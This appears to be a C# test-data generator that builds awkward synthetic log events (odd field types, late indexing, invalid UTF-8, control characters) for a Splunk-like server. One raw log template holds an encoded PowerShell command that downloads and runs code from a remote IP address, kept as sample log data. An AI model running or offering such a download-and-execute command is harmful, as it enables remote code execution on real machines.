using System.Globalization;
using System.Text;

namespace Weir.SplunkServer;

/// <summary>Events as unpleasant as real ones: F13 (one field in every shape), F15 (indexed late), F16 (many at one instant), F18 (bytes that are no text).</summary>
internal static class NastyCorpus
{
    /// <summary>Events of one hour in index <c>main</c>, and one on each side of it.</summary>
    /// <param name="count">Events in the hour.</param>
    /// <param name="start">Start of the hour.</param>
    /// <param name="lateFrom">Events in every 17th place were indexed this late.</param>
    public static Corpus Make(int count, DateTime start, DateTime? lateFrom = null, int seed = 5)
    {
        var random = new Random(seed);
        var events = new List<Event>();
        DateTime border = start.AddMinutes(30);
        for (int i = 0; i < count; i++)
        {
            // A part of them at one instant, which will be a border of slices.
            DateTime time = i % 4 == 0 ? border : start.AddMilliseconds(random.Next(3_600_000));
            DateTime? indexed = lateFrom is not null && i % 17 == 0 ? lateFrom : null;
            Event made = Corpus.Make(
                time, i,
                [
                    KeyValuePair.Create("host", $"host{i % 5}"), KeyValuePair.Create("source", "udp:514"), KeyValuePair.Create("sourcetype", i % 3 == 0 ? "syslog" : "fw"),
                    KeyValuePair.Create("_raw", Raw(i, random)), KeyValuePair.Create("n", i.ToString(CultureInfo.InvariantCulture)),
                ],
                "main", indexed);
            events.Add(made with { Fields = [.. made.Fields.Where(f => f.Key != "_raw" || i % 29 != 3), .. Odd(i)] });
        }

        // Just outside of the hour on both sides: they are nobody's.
        events.Add(Corpus.Make(start.AddMilliseconds(-1), count, [KeyValuePair.Create("n", "before")], "main"));
        events.Add(Corpus.Make(start.AddHours(1), count + 1, [KeyValuePair.Create("n", "after")], "main"));
        return new Corpus(events, "main");
    }

    // The same field as text, list, list of one, null, empty, or not at all.
    private static IEnumerable<KeyValuePair<string, object?>> Odd(int i)
    {
        yield return KeyValuePair.Create("user", (i % 7) switch { 0 => "alice", 1 => (string[])["alice", "bob"], 2 => (string[])["carol"], 3 => null, 4 => "", _ => (object?)"d\"a,v\\e" });
        if (i % 11 == 5)
            yield return KeyValuePair.Create("broken", (object?)new RawText([0x61, 0xFF, 0xC3, 0x28, 0x62]));
        if (i % 13 == 6)
            yield return KeyValuePair.Create("surrogate", (object?)new RawText("\\ud800!"u8.ToArray()));
        if (i % 19 == 2)
            yield return KeyValuePair.Create("nul", (object?)"a\0b");
        if (i % 23 == 1)
            yield return KeyValuePair.Create("bytes", (object?)(i * 1_000L).ToString(CultureInfo.InvariantCulture));
    }

    private static string Raw(int i, Random random)
    {
        string[] raws =
        [
            $"<34>Aug 20 10:00:{i % 60:00} gw sshd[{i}]: Failed password for root from 203.0.113.{i % 250} port {random.Next(65_536)}",
            $"line one {i}\nline two\twith tab \"quoted\" {{not:json}} [1,2]",
            $"{{\"_time\":\"1999-01-01T00:00:00\",\"preview\":true,\"lastrow\":true,\"result\":{{\"a\":{i}}}}}",
            $"powershell -enc {Convert.ToBase64String(Encoding.Unicode.GetBytes($"IEX https://45.77.53.176:443/{i}"))}",
            $"ünïcödé {i} 日本語 \U0001F600 \u202E",
        ];
        return raws[i % raws.Length];
    }
}
